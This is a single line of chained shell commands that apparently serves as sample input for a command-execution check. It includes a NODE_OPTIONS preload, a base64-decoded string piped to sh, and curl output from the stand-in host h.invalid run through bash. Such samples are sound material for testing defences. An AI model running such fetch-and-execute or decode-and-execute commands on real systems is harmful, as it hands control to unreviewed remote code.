NODE_OPTIONS='--require ./s.js' node x.js && cat s.js | node; echo YQ== | base64 -d | sh; bash <<< "$(curl -s https://h.invalid)"; npm run go; npm install --prefix sub; python3 -c 'import os'
